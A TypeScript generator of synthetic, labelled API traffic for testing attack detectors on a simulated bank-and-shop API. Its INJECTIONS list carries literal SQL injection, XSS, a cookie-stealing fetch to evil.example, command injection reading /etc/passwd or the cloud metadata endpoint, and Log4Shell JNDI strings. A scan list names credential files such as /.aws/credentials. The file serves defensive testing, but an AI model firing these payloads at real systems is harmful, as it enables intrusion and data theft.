import type { ApiEvent, AuthOutcome, Identity } from '@rampart/core';
import { createRandom, type Random } from './create-random.js';

/** The attacks the generator can mix in. */
export type AttackKind =
  | 'enumeration'
  | 'ownership'
  | 'stuffing'
  | 'spraying'
  | 'brute-force'
  | 'scraping'
  | 'exfiltration'
  | 'scanning'
  | 'injection'
  | 'token-reuse'
  | 'expired-replay'
  | 'shadow'
  | 'zombie';

/** Which detector is meant to catch each kind of attack. */
export const EXPECTED_DETECTOR: Readonly<Record<AttackKind, string>> = {
  enumeration: 'bola-enumeration',
  ownership: 'bola-enumeration',
  stuffing: 'credential-stuffing',
  spraying: 'credential-stuffing',
  'brute-force': 'credential-stuffing',
  scraping: 'scraping',
  exfiltration: 'exfiltration',
  scanning: 'scanning',
  injection: 'injection',
  'token-reuse': 'token-misuse',
  'expired-replay': 'token-misuse',
  shadow: 'shadow-endpoint',
  zombie: 'zombie-endpoint',
};

/** One attack in the traffic, with its ground truth. */
export interface AttackInstance {
  readonly id: string;
  readonly kind: AttackKind;
  /** Simulated epoch ms of its first and last event. */
  readonly start: number;
  readonly end: number;
  readonly events: number;
}

export interface LabelledTraffic {
  /** Every event, sorted by time. */
  readonly events: readonly ApiEvent[];
  /** Attack id of each attack event (normal events are absent). */
  readonly labels: ReadonlyMap<string, string>;
  readonly attacks: readonly AttackInstance[];
  readonly normalEvents: number;
}

export interface TrafficOptions {
  readonly seed: number;
  /** Ordinary customers (each with 1-3 sessions). Default 400. */
  readonly users?: number;
  /** Corporate users with dozens of accounts who work fast. Default 12. */
  readonly powerUsers?: number;
  /** Users behind one office address (NAT). Default 40. */
  readonly officeUsers?: number;
  /** Simulated duration in ms. Default 3 h. */
  readonly durationMs?: number;
  /** How many instances of each attack (0 leaves it out). Default 2 each (1 for shadow and zombie). */
  readonly attacks?: Partial<Record<AttackKind, number>>;
  /** Simulated start, epoch ms. */
  readonly start?: number;
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
];
const MOBILE = ['BankApp/5.1 (iOS 17.4)', 'BankApp/5.1 (Android 14)'];
const CATEGORIES = ['shoes', 'bags', 'hats', 'coats', 'gifts'];
const SEARCHES = [
  'red',
  'leather bag',
  'winter coat',
  'size 42',
  'gift card',
  'sale',
  "kids' shoes",
  'wool hat',
];
const MEMOS = [
  'Rent',
  'Dinner',
  'Invoice 2024-117',
  'Birthday gift for Sam',
  'Groceries (March)',
  'Loan repayment',
];
const PRODUCTS = 3000;
const FIRST_ACCOUNT = 100_000;

const SCAN_PATHS = [
  '/.env',
  '/.git/config',
  '/admin',
  '/admin/login',
  '/wp-login.php',
  '/wp-admin/',
  '/phpinfo.php',
  '/server-status',
  '/actuator',
  '/actuator/env',
  '/actuator/heapdump',
  '/api/v2/users',
  '/api/internal',
  '/debug',
  '/console',
  '/swagger.json',
  '/openapi.json',
  '/api-docs',
  '/graphql',
  '/.aws/credentials',
  '/backup.zip',
  '/db.sql',
  '/config.json',
  '/.DS_Store',
  '/test',
  '/old',
  '/v2/accounts',
  '/users',
  '/admin/users',
  '/metrics',
  '/trace',
  '/jolokia',
  '/cgi-bin/test.cgi',
  '/login.jsp',
  '/manager/html',
  '/solr/admin',
  '/.svn/entries',
  '/web.config',
];
const INJECTIONS: readonly { where: 'q' | 'memo' | 'ua' | 'path'; payload: string }[] = [
  { where: 'q', payload: "' OR '1'='1' -- " },
  { where: 'q', payload: '1 UNION SELECT username, password FROM users--' },
  { where: 'q', payload: "shoes' AND SLEEP(5)#" },
  { where: 'q', payload: '<script>alert(document.cookie)</script>' },
  { where: 'q', payload: '"><img src=x onerror=alert(1)>' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal attack payload, not a template
  { where: 'q', payload: '{{7*7}}${7*7}' },
  { where: 'memo', payload: 'rent; cat /etc/passwd' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal attack payload, not a template
  { where: 'memo', payload: '<svg/onload=fetch(`//evil.example/${document.cookie}`)>' },
  { where: 'memo', payload: '$(curl http://169.254.169.254/latest/meta-data/)' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal attack payload, not a template
  { where: 'ua', payload: '${jndi:ldap://203.0.113.99:1389/Exploit}' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal attack payload, not a template
  { where: 'ua', payload: '${${lower:j}ndi:${lower:r}mi://evil.example/x}' },
  { where: 'path', payload: '../../../../etc/passwd' },
  { where: 'path', payload: '..%2f..%2f..%2fwindows%2fwin.ini' },
];

interface Draft {
  time: number;
  method: string;
  path: string;
  route?: string;
  status: number;
  query?: Record<string, string>;
  responseSize?: number;
  requestBody?: { contentType: string; text: string };
  responseBody?: string;
  auth?: AuthOutcome;
  identity?: Identity;
  ip: string;
  ua: string;
}

/**
 * Generates labelled traffic for a simulated bank-and-shop API (see `BANK_API_DESCRIPTION`): ordinary customers
 * following realistic flows (login, accounts, transactions, transfers, catalogue, orders, logout) with log-normal
 * think times, typos and stale links; corporate power users; an office of users behind one NAT address; phones
 * hopping networks; a partner integration polling every minute; a health checker every 10 s; clients of the
 * deprecated v1 endpoint. Attackers are mixed in (enumeration, ownership violations, credential stuffing,
 * spraying, brute force, scraping, exfiltration, scanning, injection, token reuse, expired-token replay, shadow
 * endpoint calls) and every one of their events is labelled with its attack id. Deterministic for a seed.
 */
export function generateLabelledTraffic(options: TrafficOptions): LabelledTraffic {
  const random = createRandom(options.seed);
  const start = options.start ?? 1_735_689_600_000;
  const duration = options.durationMs ?? 3 * 60 * 60_000;
  const end = start + duration;
  const drafts: { draft: Draft; attack: string | undefined }[] = [];
  const attacks: AttackInstance[] = [];
  const owners = new Map<number, string>();
  let nextAccount = FIRST_ACCOUNT;
  let nextOrder = 500_000;
  let sessionCounter = 0;

  const push = (draft: Draft, attack?: string) => {
    if (draft.time < end) drafts.push({ draft, attack });
  };
  const homeIp = () =>
    `${random.pick([24, 31, 73, 82, 91, 109, 151, 176, 188, 212])}.${random.int(0, 255)}.${random.int(0, 255)}.${random.int(1, 254)}`;
  const jwt = (subject: string): Identity => ({
    subject,
    method: 'jwt',
    credentialFingerprint: `fp${(++sessionCounter).toString(36)}${random.int(0, 1e6).toString(36)}`,
  });
  const openAccounts = (user: string, n: number): number[] =>
    Array.from({ length: n }, () => {
      // Account numbers are not dense: other banks' customers live in between.
      nextAccount += random.int(1, 3);
      owners.set(nextAccount, user);
      return nextAccount;
    });
  const accountsBody = (ids: readonly number[]) =>
    `[${ids.map((id) => `{"id":"${id}","type":"checking","currency":"EUR","balance":${random.int(10, 90_000)}}`).join(',')}]`;
  const productsBody = (ids: readonly number[]) =>
    `{"items":[${ids.map((id) => `{"id":${id},"name":"Item ${id}","price":${random.int(5, 400)}}`).join(',')}]}`;

  interface Person {
    readonly name: string;
    readonly accounts: number[];
    readonly orders: number[];
    readonly ips: readonly string[];
    readonly ua: string;
    readonly thinkMedianMs: number;
  }

  const login = (p: Person, t: number, attack?: string): { t: number; identity: Identity; ip: string } => {
    const ip = random.pick(p.ips);
    const body = (name: string) => ({
      contentType: 'application/json',
      text: `{"username":"${name}","password":"[redacted]"}`,
    });
    if (random.chance(0.04)) {
      push(
        {
          time: t,
          method: 'POST',
          path: '/auth/login',
          route: '/auth/login',
          status: 401,
          requestBody: body(p.name),
          auth: 'none',
          ip,
          ua: p.ua,
          responseSize: 120,
        },
        attack,
      );
      t += random.logNormal(6000, 0.5);
    }
    push(
      {
        time: t,
        method: 'POST',
        path: '/auth/login',
        route: '/auth/login',
        status: 200,
        requestBody: body(p.name),
        auth: 'none',
        ip,
        ua: p.ua,
        responseSize: 900,
      },
      attack,
    );
    return { t: t + random.logNormal(1500, 0.4), identity: jwt(p.name), ip };
  };

  /** One browsing session of a customer; returns when it ended. */
  const session = (p: Person, t0: number, actions: number, attack?: string): number => {
    let { t, identity, ip } = login(p, t0, attack);
    const call = (d: Omit<Draft, 'time' | 'ip' | 'ua' | 'auth' | 'identity'>) => {
      push({ time: t, ip, ua: p.ua, auth: 'success', identity, responseSize: 1500, ...d }, attack);
      t += random.logNormal(p.thinkMedianMs, 0.9);
      // Phones hop between their networks now and then.
      if (p.ips.length > 1 && random.chance(0.05)) ip = random.pick(p.ips);
    };
    call({
      method: 'GET',
      path: '/accounts',
      route: '/accounts',
      status: 200,
      responseBody: accountsBody(p.accounts),
      responseSize: 200 + 120 * p.accounts.length,
    });
    for (let a = 0; a < actions; a++) {
      const r = random.next();
      const account = random.pick(p.accounts);
      if (r < 0.3) {
        call({
          method: 'GET',
          path: `/accounts/${account}`,
          route: '/accounts/{accountId}',
          status: 200,
          responseSize: random.int(600, 1400),
        });
      } else if (r < 0.5) {
        const pageNo = random.int(1, 3);
        call({
          method: 'GET',
          path: `/accounts/${account}/transactions`,
          route: '/accounts/{accountId}/transactions',
          status: 200,
          query: { page: String(pageNo), limit: '20' },
          responseSize: random.int(6000, 16_000),
        });
      } else if (r < 0.58) {
        const to = random.chance(0.5)
          ? random.pick(p.accounts)
          : random.int(FIRST_ACCOUNT, FIRST_ACCOUNT + 4000);
        const amount = (random.int(100, 500_000) / 100).toFixed(2);
        const text = `{"fromAccount":"${account}","toAccount":"${to}","amount":${amount},"currency":"EUR","memo":"${random.pick(MEMOS)}"}`;
        call({
          method: 'POST',
          path: '/transfers',
          route: '/transfers',
          status: random.chance(0.08) ? 422 : 201,
          requestBody: { contentType: 'application/json', text },
          responseSize: 300,
        });
      } else if (r < 0.8) {
        const query: Record<string, string> = {
          category: random.pick(CATEGORIES),
          page: String(random.int(1, 5)),
        };
        if (random.chance(0.3)) query['q'] = random.pick(SEARCHES);
        const shown = Array.from({ length: 20 }, () => random.int(1, PRODUCTS));
        call({
          method: 'GET',
          path: '/products',
          route: '/products',
          status: 200,
          query,
          responseBody: productsBody(shown),
          responseSize: random.int(4000, 8000),
        });
        for (let k = random.int(0, 3); k > 0; k--) {
          call({
            method: 'GET',
            path: `/products/${random.pick(shown)}`,
            route: '/products/{productId}',
            status: 200,
            responseSize: random.int(1500, 3000),
          });
        }
      } else if (r < 0.93) {
        call({
          method: 'GET',
          path: '/orders',
          route: '/orders',
          status: 200,
          responseBody: `[${p.orders.map((o) => `{"id":"${o}"}`).join(',')}]`,
          responseSize: 300 + 80 * p.orders.length,
        });
        if (p.orders.length > 0) {
          // Now and then a stale link to an order that was archived.
          const stale = random.chance(0.05);
          call({
            method: 'GET',
            path: `/orders/${stale ? random.int(400_000, 499_999) : random.pick(p.orders)}`,
            route: '/orders/{orderId}',
            status: stale ? 404 : 200,
            responseSize: stale ? 100 : random.int(800, 2000),
          });
        }
      } else {
        const order = ++nextOrder;
        p.orders.push(order);
        call({
          method: 'POST',
          path: '/orders',
          route: '/orders',
          status: 201,
          requestBody: {
            contentType: 'application/json',
            text: `{"productId":${random.int(1, PRODUCTS)},"quantity":${random.int(1, 3)}}`,
          },
          responseBody: `{"id":"${order}"}`,
          responseSize: 200,
        });
      }
    }
    if (random.chance(0.15)) {
      // Idle too long: the next call meets an expired token, then the app logs in again.
      t += 20 * 60_000;
      push(
        {
          time: t,
          method: 'GET',
          path: '/accounts',
          route: '/accounts',
          status: 401,
          auth: 'expired',
          ip,
          ua: p.ua,
          responseSize: 100,
        },
        attack,
      );
      t = login(p, t + 3000, attack).t;
    } else if (random.chance(0.7)) {
      push(
        {
          time: t,
          method: 'POST',
          path: '/auth/logout',
          route: '/auth/logout',
          status: 204,
          auth: 'success',
          identity,
          ip,
          ua: p.ua,
          responseSize: 0,
        },
        attack,
      );
    }
    return t;
  };

  const person = (name: string, accounts: number, ips: string[], ua: string, think: number): Person => ({
    name,
    accounts: openAccounts(name, accounts),
    orders: [],
    ips,
    ua,
    thinkMedianMs: think,
  });

  // Ordinary customers, some on phones that hop between a carrier pool and home Wi-Fi.
  const users = options.users ?? 400;
  const people: Person[] = [];
  for (let u = 0; u < users; u++) {
    const mobile = random.chance(0.35);
    const home = homeIp();
    const carrier = `100.64.${random.int(0, 255)}`;
    const ips = mobile
      ? [home, `${carrier}.${random.int(1, 254)}`, `${carrier}.${random.int(1, 254)}`]
      : [home];
    people.push(
      person(
        `user${u}@example.com`,
        random.int(1, 3),
        ips,
        mobile ? random.pick(MOBILE) : random.pick(BROWSERS),
        7000,
      ),
    );
  }
  for (const p of people) {
    for (let s = random.int(1, 3); s > 0; s--)
      session(p, start + random.next() * duration, random.int(3, 15));
  }
  // An office behind one NAT address.
  const office = '198.51.100.10';
  for (let u = 0; u < (options.officeUsers ?? 40); u++) {
    const p = person(`clerk${u}@corp.example`, random.int(1, 2), [office], random.pick(BROWSERS), 6000);
    for (let s = random.int(2, 4); s > 0; s--)
      session(p, start + random.next() * duration, random.int(5, 20));
  }
  // Corporate treasurers: dozens of accounts, fast, long sessions.
  for (let u = 0; u < (options.powerUsers ?? 12); u++) {
    const p = person(
      `treasurer${u}@bigco.example`,
      random.int(40, 150),
      [homeIp()],
      random.pick(BROWSERS),
      1500,
    );
    for (let s = random.int(1, 3); s > 0; s--)
      session(p, start + random.next() * duration, random.int(80, 250));
  }
  // Anonymous shoppers browsing the catalogue, some from the office.
  for (let u = 0; u < Math.round(users / 4); u++) {
    const ip = random.chance(0.2) ? office : homeIp();
    const ua = random.pick(BROWSERS);
    let t = start + random.next() * duration;
    for (let k = random.int(3, 30); k > 0; k--) {
      const shown = Array.from({ length: 20 }, () => random.int(1, PRODUCTS));
      push({
        time: t,
        method: 'GET',
        path: '/products',
        route: '/products',
        status: 200,
        query: { category: random.pick(CATEGORIES), page: String(random.int(1, 8)) },
        responseBody: productsBody(shown),
        responseSize: random.int(4000, 8000),
        auth: 'none',
        ip,
        ua,
      });
      t += random.logNormal(5000, 0.8);
      for (let d = random.int(0, 4); d > 0; d--) {
        push({
          time: t,
          method: 'GET',
          path: `/products/${random.pick(shown)}`,
          route: '/products/{productId}',
          status: 200,
          responseSize: random.int(1500, 3000),
          auth: 'none',
          ip,
          ua,
        });
        t += random.logNormal(9000, 0.8);
      }
    }
  }
  // A health checker and a partner integration: machine-regular, but nothing else about them is odd.
  for (let t = start; t < end; t += 10_000) {
    push({
      time: t + random.int(0, 40),
      method: 'GET',
      path: '/health',
      route: '/health',
      status: 200,
      responseSize: 20,
      auth: 'none',
      ip: '10.0.0.5',
      ua: 'kube-probe/1.29',
    });
  }
  const partner: Identity = {
    subject: 'partner-erp',
    method: 'api-key',
    credentialFingerprint: 'fp-partner-erp',
  };
  for (let t = start; t < end; t += 60_000) {
    push({
      time: t + random.int(0, 300),
      method: 'GET',
      path: '/orders',
      route: '/orders',
      status: 200,
      query: { since: new Date(t - 60_000).toISOString(), limit: '100' },
      responseSize: random.int(2000, 40_000),
      auth: 'success',
      identity: partner,
      ip: random.chance(0.9) ? '192.0.2.10' : '192.0.2.11',
      ua: 'erp-connector/3.2',
    });
  }

  // Attacks.
  const counts: Record<AttackKind, number> = {
    enumeration: 2,
    ownership: 2,
    stuffing: 2,
    spraying: 2,
    'brute-force': 2,
    scraping: 2,
    exfiltration: 2,
    scanning: 2,
    injection: 3,
    'token-reuse': 2,
    'expired-replay': 2,
    shadow: 1,
    zombie: 1,
    ...options.attacks,
  };
  const attackWindow = () => start + duration * 0.1 + random.next() * duration * 0.75;
  const attackerIp = () =>
    `${random.pick([5, 45, 91, 103, 185, 194])}.${random.int(0, 255)}.${random.int(0, 255)}.${random.int(1, 254)}`;
  const launch = (kind: AttackKind, index: number, script: (id: string, t0: number) => void) => {
    const id = `${kind}-${index}`;
    const before = drafts.length;
    script(id, attackWindow());
    const mine = drafts.slice(before).filter((d) => d.attack === id);
    if (mine.length === 0) return;
    attacks.push({
      id,
      kind,
      start: Math.min(...mine.map((d) => d.draft.time)),
      end: Math.max(...mine.map((d) => d.draft.time)),
      events: mine.length,
    });
  };

  for (let i = 0; i < counts.enumeration; i++) {
    launch('enumeration', i, (id, t0) => {
      const me = person(`mallory${i}@example.net`, 1, [attackerIp()], random.pick(BROWSERS), 1500);
      let { t, identity, ip } = login(me, t0, id);
      let target = FIRST_ACCOUNT + random.int(0, 2000);
      for (let k = random.int(60, 160); k > 0; k--, target++) {
        const owner = owners.get(target);
        const status = owner === me.name ? 200 : owner === undefined ? 404 : random.chance(0.3) ? 200 : 403;
        push(
          {
            time: t,
            method: 'GET',
            path: `/accounts/${target}`,
            route: '/accounts/{accountId}',
            status,
            auth: 'success',
            identity,
            ip,
            ua: me.ua,
            responseSize: status === 200 ? 1100 : 120,
          },
          id,
        );
        t += random.logNormal(1200, 0.5);
      }
    });
  }
  for (let i = 0; i < counts.ownership; i++) {
    launch('ownership', i, (id, t0) => {
      // A customer of a vulnerable API reading other customers' accounts, slowly and out of order, all answered.
      const me = person(`eve${i}@example.org`, 2, [homeIp()], random.pick(BROWSERS), 20_000);
      let { t, identity, ip } = login(me, t0, id);
      push(
        {
          time: t,
          method: 'GET',
          path: '/accounts',
          route: '/accounts',
          status: 200,
          auth: 'success',
          identity,
          ip,
          ua: me.ua,
          responseBody: accountsBody(me.accounts),
          responseSize: 400,
        },
        id,
      );
      const known = [...owners.keys()];
      for (let k = random.int(15, 30); k > 0; k--) {
        t += random.logNormal(20_000, 0.6);
        push(
          {
            time: t,
            method: 'GET',
            path: `/accounts/${random.pick(known)}`,
            route: '/accounts/{accountId}',
            status: 200,
            auth: 'success',
            identity,
            ip,
            ua: me.ua,
            responseSize: 1100,
          },
          id,
        );
      }
    });
  }
  const loginAttempt = (id: string, t: number, ip: string, ua: string, username: string, ok: boolean) =>
    push(
      {
        time: t,
        method: 'POST',
        path: '/auth/login',
        route: '/auth/login',
        status: ok ? 200 : 401,
        requestBody: {
          contentType: 'application/json',
          text: `{"username":"${username}","password":"[redacted]"}`,
        },
        auth: 'none',
        ip,
        ua,
        responseSize: ok ? 900 : 120,
      },
      id,
    );
  for (let i = 0; i < counts.stuffing; i++) {
    launch('stuffing', i, (id, t0) => {
      const ip = attackerIp();
      let t = t0;
      for (let k = random.int(100, 250); k > 0; k--) {
        loginAttempt(
          id,
          t,
          ip,
          'python-requests/2.31',
          `leaked${random.int(0, 1e6)}@mail.example`,
          random.chance(0.01),
        );
        t += random.logNormal(700, 0.6);
      }
    });
  }
  for (let i = 0; i < counts.spraying; i++) {
    launch('spraying', i, (id, t0) => {
      const ip = attackerIp();
      let t = t0;
      for (let k = random.int(25, 60); k > 0; k--) {
        loginAttempt(id, t, ip, random.pick(BROWSERS), `user${random.int(0, 399)}@example.com`, false);
        t += random.logNormal(25_000, 0.4);
      }
    });
  }
  for (let i = 0; i < counts['brute-force']; i++) {
    launch('brute-force', i, (id, t0) => {
      const ip = attackerIp();
      const victim = `user${random.int(0, 399)}@example.com`;
      let t = t0;
      for (let k = random.int(40, 120); k > 0; k--) {
        loginAttempt(id, t, ip, 'hydra', victim, false);
        t += random.logNormal(2000, 0.5);
      }
    });
  }
  for (let i = 0; i < counts.scraping; i++) {
    launch('scraping', i, (id, t0) => {
      const ip = attackerIp();
      const jitter = i % 2 === 0 ? 0.05 : 0.5;
      const interval = random.int(600, 2500);
      let t = t0;
      let product = random.int(1, 200);
      for (let k = random.int(300, 700); k > 0; k--) {
        push(
          {
            time: t,
            method: 'GET',
            path: `/products/${product}`,
            route: '/products/{productId}',
            status: product <= PRODUCTS ? 200 : 404,
            responseSize: random.int(1500, 3000),
            auth: 'none',
            ip,
            ua: i % 2 === 0 ? 'Scrapy/2.11' : random.pick(BROWSERS),
          },
          id,
        );
        product += i % 2 === 0 ? 1 : random.int(1, 4);
        t += interval * (1 + jitter * random.normal() * 0.5);
      }
    });
  }
  for (let i = 0; i < counts.exfiltration; i++) {
    launch('exfiltration', i, (id, t0) => {
      // An insider with a real account pulls whole histories in giant pages.
      const me = person(`insider${i}@example.com`, 2, [homeIp()], random.pick(BROWSERS), 4000);
      let { t, identity, ip } = login(me, t0, id);
      for (let k = random.int(6, 20); k > 0; k--) {
        const account = random.pick([...owners.keys()]);
        push(
          {
            time: t,
            method: 'GET',
            path: `/accounts/${account}/transactions`,
            route: '/accounts/{accountId}/transactions',
            status: 200,
            query: { page: '1', limit: '10000' },
            auth: 'success',
            identity,
            ip,
            ua: me.ua,
            responseSize: random.int(2_000_000, 6_000_000),
          },
          id,
        );
        t += random.logNormal(8000, 0.5);
      }
    });
  }
  for (let i = 0; i < counts.scanning; i++) {
    launch('scanning', i, (id, t0) => {
      const ip = attackerIp();
      let t = t0;
      for (let k = 0; k < random.int(60, 200); k++) {
        const base = SCAN_PATHS[k % SCAN_PATHS.length]!;
        const path = k < SCAN_PATHS.length ? base : `${base}${k}`;
        push(
          {
            time: t,
            method: random.chance(0.9) ? 'GET' : 'POST',
            path,
            status: random.chance(0.85) ? 404 : random.pick([401, 403, 405]),
            responseSize: 150,
            auth: 'none',
            ip,
            ua: random.pick(['Nikto/2.5', 'gobuster/3.6', 'Mozilla/5.0 zgrab/0.x']),
          },
          id,
        );
        t += random.logNormal(300, 0.7);
      }
    });
  }
  for (let i = 0; i < counts.injection; i++) {
    launch('injection', i, (id, t0) => {
      const me = person(`probe${i}@example.net`, 1, [attackerIp()], random.pick(BROWSERS), 5000);
      let { t, identity, ip } = login(me, t0, id);
      for (let k = random.int(8, 25); k > 0; k--) {
        const inj = random.pick(INJECTIONS);
        if (inj.where === 'q') {
          push(
            {
              time: t,
              method: 'GET',
              path: '/products',
              route: '/products',
              status: random.pick([200, 400, 500]),
              query: { category: 'shoes', q: inj.payload },
              auth: 'success',
              identity,
              ip,
              ua: me.ua,
              responseSize: 800,
            },
            id,
          );
        } else if (inj.where === 'memo') {
          const text = JSON.stringify({
            fromAccount: String(me.accounts[0]),
            toAccount: '100777',
            amount: 1,
            currency: 'EUR',
            memo: inj.payload,
          });
          push(
            {
              time: t,
              method: 'POST',
              path: '/transfers',
              route: '/transfers',
              status: 400,
              requestBody: { contentType: 'application/json', text },
              auth: 'success',
              identity,
              ip,
              ua: me.ua,
              responseSize: 200,
            },
            id,
          );
        } else if (inj.where === 'ua') {
          push(
            {
              time: t,
              method: 'GET',
              path: '/accounts',
              route: '/accounts',
              status: 200,
              auth: 'success',
              identity,
              ip,
              ua: inj.payload,
              responseSize: 400,
            },
            id,
          );
        } else {
          push(
            {
              time: t,
              method: 'GET',
              path: `/products/${encodeURIComponent(inj.payload)}`,
              route: '/products/{productId}',
              status: 404,
              auth: 'success',
              identity,
              ip,
              ua: me.ua,
              responseSize: 100,
            },
            id,
          );
        }
        t += random.logNormal(5000, 0.7);
      }
    });
  }
  for (let i = 0; i < counts['token-reuse']; i++) {
    launch('token-reuse', i, (id, t0) => {
      // A token stolen from a real customer, replayed by a botnet from many networks.
      const victim = random.pick(people);
      const identity = jwt(victim.name);
      const ips = Array.from({ length: random.int(5, 10) }, attackerIp);
      let t = t0;
      for (let k = random.int(20, 60); k > 0; k--) {
        push(
          {
            time: t,
            method: 'GET',
            path: `/accounts/${victim.accounts[0]}/transactions`,
            route: '/accounts/{accountId}/transactions',
            status: 200,
            query: { page: '1', limit: '20' },
            auth: 'success',
            identity,
            ip: random.pick(ips),
            ua: 'python-requests/2.31',
            responseSize: 9000,
          },
          id,
        );
        t += random.logNormal(4000, 0.6);
      }
    });
  }
  for (let i = 0; i < counts['expired-replay']; i++) {
    launch('expired-replay', i, (id, t0) => {
      const ip = attackerIp();
      let t = t0;
      for (let k = random.int(15, 40); k > 0; k--) {
        push(
          {
            time: t,
            method: 'GET',
            path: '/accounts',
            route: '/accounts',
            status: 401,
            auth: 'expired',
            ip,
            ua: 'curl/8.5.0',
            responseSize: 100,
          },
          id,
        );
        t += random.logNormal(3000, 0.5);
      }
    });
  }
  for (let i = 0; i < counts.shadow; i++) {
    launch('shadow', i, (id, t0) => {
      const identity = jwt('ops-script');
      let t = t0;
      for (let k = random.int(5, 15); k > 0; k--) {
        push(
          {
            time: t,
            method: 'GET',
            path: `/internal/export/${random.int(1, 9999)}`,
            status: 200,
            auth: 'success',
            identity,
            ip: '10.0.3.7',
            ua: 'ops-export/0.1',
            responseSize: random.int(20_000, 90_000),
          },
          id,
        );
        t += random.logNormal(60_000, 0.5);
      }
    });
  }
  for (let i = 0; i < counts.zombie; i++) {
    launch('zombie', i, (id, t0) => {
      // Old app versions still on the deprecated v1 endpoint.
      let t = t0;
      for (let k = random.int(5, 20); k > 0; k--) {
        const p = random.pick(people);
        push(
          {
            time: t,
            method: 'GET',
            path: `/v1/accounts/${p.accounts[0]}`,
            route: '/v1/accounts/{accountId}',
            status: 200,
            auth: 'success',
            identity: jwt(p.name),
            ip: random.pick(p.ips),
            ua: 'BankApp/3.0 (Android 9)',
            responseSize: 900,
          },
          id,
        );
        t += random.logNormal(120_000, 0.7);
      }
    });
  }

  drafts.sort((a, b) => a.draft.time - b.draft.time);
  const labels = new Map<string, string>();
  const events: ApiEvent[] = drafts.map(({ draft, attack }, n) => {
    const id = `e${n}`;
    if (attack !== undefined) labels.set(id, attack);
    return toEvent(id, draft, random);
  });
  return { events, labels, attacks, normalEvents: events.length - labels.size };
}

function toEvent(id: string, d: Draft, random: Random): ApiEvent {
  const query = d.query;
  const search = query === undefined ? '' : `?${new URLSearchParams(query).toString()}`;
  const requestHeaders: Record<string, string> = {
    host: 'api.bank.example',
    'user-agent': d.ua,
    accept: 'application/json',
  };
  if (d.identity !== undefined || d.auth === 'expired') requestHeaders['authorization'] = 'Bearer [redacted]';
  const requestSize = d.requestBody?.text.length ?? 0;
  return {
    id,
    time: Math.round(d.time),
    origin: 'gateway',
    host: 'api.bank.example',
    method: d.method,
    rawPath: `${d.path}${search}`,
    path: d.path,
    ...(d.route !== undefined ? { route: d.route } : {}),
    status: d.status,
    latencyMs: Math.round(random.logNormal(25, 0.6)),
    requestSize,
    responseSize: d.responseSize ?? 500,
    clientIp: d.ip,
    userAgent: d.ua,
    ...(d.identity !== undefined ? { identity: d.identity } : {}),
    auth: d.auth ?? 'none',
    verdict: 'allow',
    requestHeaders,
    responseHeaders: { 'content-type': 'application/json' },
    ...(query !== undefined ? { query } : {}),
    ...(d.requestBody !== undefined
      ? {
          requestBody: {
            contentType: d.requestBody.contentType,
            text: d.requestBody.text,
            truncated: false,
            size: requestSize,
          },
        }
      : {}),
    ...(d.responseBody !== undefined
      ? {
          responseBody: {
            contentType: 'application/json',
            text: d.responseBody.slice(0, 4096),
            truncated: d.responseBody.length > 4096,
            size: d.responseBody.length,
          },
        }
      : {}),
  };
}
